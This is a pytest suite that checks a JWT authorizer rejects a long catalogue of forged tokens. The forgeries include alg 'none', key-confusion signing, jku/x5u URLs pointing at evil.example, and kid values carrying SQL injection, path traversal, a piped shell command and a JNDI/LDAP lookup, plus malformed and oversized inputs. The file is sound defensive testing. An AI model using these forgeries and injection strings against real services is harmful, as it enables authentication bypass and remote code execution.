"""Attacks on the authorizer, the real function: tokens that differ from a good one in one thing each.

Source: RFC 8725, RFC 7515 to 7519, and what libraries have fallen for.
"""

from __future__ import annotations

import base64
import json
import re
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edge.auth.authorizer import Unauthorized
from edge.auth.tokens import MAX_TOKEN_CHARACTERS
from tests.fakes.identity.authorizers import LoadedAuthorizer, load_authorizer
from tests.fakes.identity.forged_tokens import (
    DER,
    HOUR,
    PEM,
    PKCS1,
    STRANGER,
    Attack,
    Scene,
    another_tenant,
    by_stranger,
    by_the_other_issuer,
    claims,
    duplicate_member,
    header,
    in_der,
    in_the_other_issuers_name,
    issuer_like,
    nested_token,
    on_another_curve,
    other_last_bits,
    pss,
    raw_claim,
    respelled_segment,
    shared_secret,
    signature,
    time_claims,
    with_claim,
    with_header,
    with_spare_bits,
)
from tests.fakes.identity.issuers import Issuer, public_jwk, segment, serve_issuer
from tests.fakes.run.bad_inputs import row
from tests.fakes.run.clocks import ManualClock
from tests.fakes.run.instruction_count import effort_of
from tests.fakes.run.property_budget import example_settings

JWK = public_jwk(STRANGER, "rsa")

ATTACKS: dict[str, Attack] = {
    "empty": lambda scene: "",
    "dots": lambda scene: "..",
    "one part": lambda scene: "token",
    "two parts": lambda scene: scene.good.rpartition(".")[0],
    "no signature": lambda scene: scene.good.rpartition(".")[0] + ".",
    "four parts": lambda scene: scene.good + ".AAAA",
    "encrypted (JWE)": lambda scene: f"{segment({'alg': 'dir', 'enc': 'A256GCM'})}..AAAA.AAAA.AAAA",
    "a space before": lambda scene: " " + scene.good,
    "a line feed after": lambda scene: scene.good + "\n",
    "letters of another alphabet": lambda scene: scene.good[:-1] + "é",
    "half of a surrogate pair": lambda scene: scene.good[:-1] + "\ud800",
    "two tokens": lambda scene: f"{scene.good} {scene.good}",
    **with_header("alg", "none", "None", "nOnE", "NONE", "", None, 1, ["RS256"], {}, "rs256", "RS256 ",
                  "HS256", "RS512", ...),
    "none, unsigned": lambda scene: f"{segment({'alg': 'none'})}.{segment(scene.claims)}.",
    "none, with a signature": lambda scene: (
        f"{segment({'alg': 'none', 'kid': 'rsa'})}.{segment(scene.claims)}.AAAA"),
    "well signed, RS512": header(algorithm="RS512"),
    "well signed, PS256": header(algorithm="PS256"),
    "well signed, ES384": on_another_curve,
    "PS256 called RS256": pss,
    "the elliptic key for RSA": header(kid="ec"),
    "the RSA key for curves": header("ec", "ES256", kid="rsa"),
    "PEM as a secret": shared_secret(PEM),
    "PKCS1 as a secret": shared_secret(PKCS1),
    "DER as a secret": shared_secret(DER),
    "JWK as a secret": shared_secret(
        lambda scene: json.dumps(public_jwk(scene.issuer.keys["rsa"], "rsa")).encode()),
    "nothing as a secret": shared_secret(lambda scene: b""),
    "the key's id as a secret": shared_secret(lambda scene: b"rsa"),
    "PEM as a secret, called RS256": shared_secret(PEM, "RS256"),
    "a NUL as a secret": shared_secret(lambda scene: b"\0"),
    "embedded key": by_stranger(jwk=JWK),
    "embedded certificate": by_stranger(x5c=["MIIC"]),
    "somebody's key": by_stranger(),
    "key of the other issuer": by_the_other_issuer,
    "in the other issuer's name": in_the_other_issuers_name,
    **with_header("jku", "https://evil.example/keys"),
    **with_header("x5u", "https://evil.example/cert"),
    **with_header("x5c", ["MIIC"]),
    "header jwk": header(jwk=JWK),
    **with_header("cty", "JWT"),
    **with_header("zip", "DEF"),
    **with_header("enc", "A256GCM"),
    **with_header("b64", False),
    **with_header("crit", []),
    "crit of what is known": header(crit=["exp"], exp=1),
    "crit of what is not": header(crit=["http://evil.example/x"]),
    "crit of b64": header(crit=["b64"], b64=False),
    "b64 true": header(crit=["b64"], b64=True),
    **with_header("typ", "logout+jwt", "secevent+jwt", "dpop+jwt", "JWE", "", 5, None, ["JWT"], "jwt "),
    **with_header("kid", ..., None, "", 1, 1.5, True, ["rsa"], {"rsa": 1}, "RSA", "rsa ", " rsa", "rsa\0",
                  "../../../../dev/null", "/proc/sys/kernel/randomize_va_space", "file:///dev/null",
                  "https://evil.example", "rsa' OR '1'='1", "x' UNION SELECT 'AAAA'--", "| /bin/true",
                  "${jndi:ldap://evil.example/a}", "__proto__", "k" * 4_000),
    "key id twice": duplicate_member("header", "kid", "none"),
    "algorithm twice": duplicate_member("header", "alg", "none"),
    "algorithm twice, the same": duplicate_member("header", "alg", "RS256"),
    **{f"claim {name} twice": duplicate_member("claims", name, value) for name, value in
       {"tenant": "other", "sub": "other", "exp": 0, "iss": "https://evil.example", "aud": "x"}.items()},
    **with_claim("exp", ..., None, "", "4102444800", True, [4_102_444_800], {}, 0, -1, 1.5, 4_102_444_800.5,
                 10**15, 10**18),
    **{f"exp written {text[:12]}": raw_claim("exp", text) for text in
       ("NaN", "Infinity", "-Infinity", "1e999", "4e9", "0x7fffffff", "18446744073709551616", "9" * 5_000)},
    "exp soon, a fraction": lambda scene: claims(exp=scene.seconds + 60.5)(scene),
    "exp soon, a text": lambda scene: claims(exp=str(scene.seconds + 60))(scene),
    "expired": time_claims(exp=0),
    "lives for more than a day": time_claims(exp=24 * HOUR + 1),
    "begins later": time_claims(nbf=HOUR),
    "made later": time_claims(iat=HOUR, exp=2 * HOUR),
    "later than skew": time_claims(iat=61, exp=HOUR),
    **with_claim("nbf", "0", False, 1.5, [], 10**18),
    **with_claim("iat", "0", False, 1.5, [], 10**18, -(10**18), 0),
    **with_claim("aud", ..., None, "", " ", "chat2", "cha", "Chat", "chat ", "chat other", "chat,other", "*",
                 5, True, [], [""], ["other"], [["chat"]], ["chat", 5], ["chat", None], {"chat": True},
                 {"aud": "chat"}),
    **with_claim("sub", ..., None, 5, True, ["maya"], {}),
    **with_claim("iss", ..., None, "", 5, [], {}, "https://evil.example"),
    "iss with a slash": issuer_like(lambda url: url + "/"),
    "iss in capitals": issuer_like(str.upper),
    "iss in a list": issuer_like(lambda url: [url]),
    "iss before another host": issuer_like(lambda url: url + "@evil.example"),
    "iss below another host": issuer_like(lambda url: "https://evil.example/" + url),
    "iss with a fragment": issuer_like(lambda url: url + "#"),
    "iss with a space": issuer_like(lambda url: url + " "),
    "iss with a dot": issuer_like(lambda url: url.replace("127.0.0.1", "127.0.0.1.")),
    "changed claims": another_tenant,
    **{f"signature {name}": signature(change) for name, change in {
        "cut": lambda text: text[:-4], "longer": lambda text: text + "AAAA",
        "reversed": lambda text: text[::-1], "of zeros": lambda text: segment(bytes(256)),
        "short": lambda text: "AAAA"}.items()},
    **{f"elliptic signature {name}": signature(change, "ec", "ES256") for name, change in {
        "of zeros": lambda text: segment(bytes(64)), "cut": lambda text: text[:-4],
        "longer": lambda text: text + "AAAA",
        "of the order": lambda text: segment(bytes.fromhex(
            "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551") * 2)}.items()},
    "elliptic signature in DER": in_der,
    "padded header": respelled_segment(0, lambda text: text + "=" * (-len(text) % 4 or 4)),
    "padded payload": respelled_segment(1, lambda text: text + "=" * (-len(text) % 4 or 4)),
    "padded signature": respelled_segment(2, lambda text: text + "=" * (-len(text) % 4)),
    "signature with bits nobody reads": respelled_segment(2, other_last_bits),
    "header with bits nobody reads": with_spare_bits,
    "signature with what decoders skip": respelled_segment(2, lambda text: text[:9] + "!~\t" + text[9:]),
    "signature in the other alphabet": lambda scene: next(
        token.replace("-", "+").replace("_", "/") for number in range(99)
        if {"-", "_"} & set((token := claims(jti=str(number))(scene)).rpartition(".")[2])),
    "payload in the other alphabet": lambda scene: scene.issuer.signed(scene.header, base64.b64encode(
        json.dumps({**scene.claims, "x": "~~~???>>>"}, ensure_ascii=False).encode()).decode().rstrip("=")),
    "byte order mark before the header": lambda scene: scene.issuer.signed(
        b"\xef\xbb\xbf" + json.dumps(scene.header).encode(), scene.claims),
    "claims in UTF-16": lambda scene: scene.issuer.signed(
        scene.header, json.dumps(scene.claims).encode("utf-16")),
    "claims in no encoding": lambda scene: scene.issuer.signed(scene.header, b'{"\xff":1}'),
    "claims in single quotes": lambda scene: scene.issuer.signed(scene.header, str(scene.claims).encode()),
    "claims with more behind": lambda scene: scene.issuer.signed(
        scene.header, json.dumps(scene.claims).encode() + b"{}"),
    "claims in a list": lambda scene: scene.issuer.signed(scene.header, [scene.claims]),
    "claims that are a text": lambda scene: scene.issuer.signed(scene.header, b'"maya"'),
    "claims with half a surrogate pair": raw_claim("sub", '"\\ud800"'),
    "claims with a NUL": raw_claim("sub", '"maya\\u0000"'),
    "claims too deep": raw_claim("x", "[" * 900 + "]" * 900),
    "header too deep": lambda scene: scene.issuer.signed(b'{"a":' * 900, scene.claims),
    "a token in a token": nested_token,
    "larger than any": lambda scene: claims(x="x" * MAX_TOKEN_CHARACTERS)(scene),
}  # fmt: skip

SHOWN = {
    "E1": "empty|dots|one part|two parts|four parts|encrypted .*",
    "E2": "header alg .*|none, .*",
    "E4": "nothing as a secret",
    "E5": "no signature",
    "E7": "embedded key|header jwk",
    "E8": "header (jku|x5u) .*",
    "E10": "(header )?crit .*|(header )?b64 .*",
    "E11": "well signed, .*|PS256 called RS256",
    "E13": "(claim )?exp .*|lives for .*",
    "E14": "begins later|made later",
    "E16": "claim aud .*",
    "E17": "(claim )?iss .*",
    "E22": "claims in a list|header too deep|claims too deep",
}
"""Rows of ``tests/bad_inputs.json``, and the attacks that show them."""


def named(name: str) -> Any:
    shown = [row_id for row_id, names in SHOWN.items() if re.fullmatch(names, name)]
    return pytest.param(name, marks=[row(*shown)] if shown else [])


HEADERS = ["", "Bearer", "Bearer ", "Basic {}", "{}", "Bearer  {}", "Bearer {} ", "Bearer {},{}",
           "Bearer\t{}", "Token {}", "Bearer Bearer {}", "bearer{}", "Bearer={}"]  # fmt: skip


@pytest.fixture(scope="module")
def issuers() -> Iterator[tuple[Issuer, Issuer]]:
    with serve_issuer() as issuer, serve_issuer() as other:
        yield issuer, other


@pytest.fixture(scope="module")
def authorizer(issuers: tuple[Issuer, Issuer], tmp_path_factory: pytest.TempPathFactory) -> LoadedAuthorizer:
    """Loaded once, as in a warm environment."""
    folder: Path = tmp_path_factory.mktemp("authorizer")
    return load_authorizer(folder, ManualClock(), *issuers)


@pytest.fixture
def scene(authorizer: LoadedAuthorizer, issuers: tuple[Issuer, Issuer]) -> Scene:
    return Scene(*issuers, authorizer.clock.now())


def test_what_the_attacks_begin_with_is_a_good_token(authorizer: LoadedAuthorizer, scene: Scene) -> None:
    for token in (scene.good, header("ec", "ES256")(scene), scene.other.token(scene.now)):
        assert authorizer.context_of(f"Bearer {token}")["user"] == "maya"


@pytest.mark.parametrize("name", [named(each) for each in ATTACKS])
def test_an_attack_gets_nobody_in(name: str, authorizer: LoadedAuthorizer, scene: Scene) -> None:
    with pytest.raises(Unauthorized, match=r"^Unauthorized$"):
        authorizer.context_of(f"Bearer {ATTACKS[name](scene)}")


@row("D7")
@pytest.mark.parametrize("form", HEADERS)
def test_a_good_token_in_another_header_gets_nobody_in(
    form: str, authorizer: LoadedAuthorizer, scene: Scene
) -> None:
    with pytest.raises(Unauthorized):
        authorizer.context_of(form.replace("{}", scene.good))


@row("D8")
@pytest.mark.parametrize("form", ["Bearer {}", "bearer {}", "BEARER {}"])
def test_the_scheme_may_be_written_in_any_letter_case(
    form: str, authorizer: LoadedAuthorizer, scene: Scene
) -> None:
    assert authorizer.context_of(form.replace("{}", scene.good))["tenant"] == "acme"


@pytest.mark.parametrize(
    "members",
    [
        {"typ": ...},
        {"typ": "jwt"},
        {"typ": "at+jwt"},
        {"typ": "application/at+jwt"},
        {"x5t": "kBw"},
        {"nonce": "n"},
    ],
)
def test_what_issuers_in_use_put_into_headers_does_no_harm(
    members: dict[str, Any], authorizer: LoadedAuthorizer, scene: Scene
) -> None:
    assert authorizer.context_of(f"Bearer {header(**members)(scene)}")["user"] == "maya"


@pytest.mark.parametrize(
    "attack", [time_claims(iat=60, nbf=60, exp=HOUR), claims(iat=...), time_claims(exp=24 * HOUR)]
)
def test_clocks_may_differ_by_a_minute_and_tokens_live_for_a_day(
    attack: Attack, authorizer: LoadedAuthorizer, scene: Scene
) -> None:
    assert authorizer.context_of(f"Bearer {attack(scene)}")["user"] == "maya"


@row("E22", "E23")
@pytest.mark.parametrize(
    "token",
    ["a" * 1_000_000, "." * 1_000_000, "eyJ" + "A" * 6_000 + ".e.e", segment(b"[" * 6_000) + ".a.a"],
    ids=["long", "dots", "nonsense", "deep"],
)
def test_what_is_no_token_is_refused_before_it_costs_anything(
    token: str, authorizer: LoadedAuthorizer
) -> None:
    def refused() -> None:
        with pytest.raises(Unauthorized):
            authorizer.context_of(f"Bearer {token}")

    steps, peak_bytes = effort_of(refused)
    assert steps < 3_000
    assert peak_bytes < 4_000_000


@row("E8")
@pytest.mark.parametrize(
    "name", ["header jku 'https://evil.example/keys'", "claim iss 'https://evil.example'"]
)
def test_nothing_a_token_says_makes_anybody_connect(
    name: str, authorizer: LoadedAuthorizer, scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    authorizer.context_of(f"Bearer {scene.good}")
    asked: list[object] = []
    for place, name_of_call in ((socket, "getaddrinfo"), (socket.socket, "connect")):
        monkeypatch.setattr(place, name_of_call, lambda *named, **_more: asked.append(named))
    with pytest.raises(Unauthorized):
        authorizer.context_of(f"Bearer {ATTACKS[name](scene)}")
    assert asked == []


@pytest.mark.parametrize("event", [{}, {"authorizationToken": None}, {"authorizationToken": ["Bearer x"]}])
def test_no_token_at_all_gets_nobody_in(event: dict[str, Any], authorizer: LoadedAuthorizer) -> None:
    with pytest.raises(Unauthorized):
        authorizer.handle(event)


@example_settings(300)
@given(data=st.data())
def test_a_good_token_with_anything_changed_gets_nobody_in_and_breaks_nothing(
    authorizer: LoadedAuthorizer, issuers: tuple[Issuer, Issuer], data: st.DataObject
) -> None:
    good = Scene(*issuers, authorizer.clock.now()).good
    at = data.draw(st.integers(0, len(good) - 1))
    length = data.draw(st.integers(0, 5))
    text = data.draw(st.text(max_size=5))
    forged = good[:at] + text + good[at + length :]
    if forged != good:
        with pytest.raises(Unauthorized):
            authorizer.context_of(f"Bearer {forged}")


@example_settings(200)
@given(
    header=st.dictionaries(
        st.text(max_size=8), st.none() | st.booleans() | st.integers() | st.text(), max_size=4
    ),
    payload=st.binary(max_size=200),
)
def test_whatever_an_issuer_signs_breaks_nothing(
    authorizer: LoadedAuthorizer, issuers: tuple[Issuer, Issuer], header: dict[str, Any], payload: bytes
) -> None:
    issuer, _ = issuers
    for token in (
        issuer.signed({**header, "alg": "RS256", "kid": "rsa"}, payload),
        issuer.signed(header, issuer.claims(authorizer.clock.now())),
    ):
        with pytest.raises(Unauthorized):
            authorizer.context_of(f"Bearer {token}")
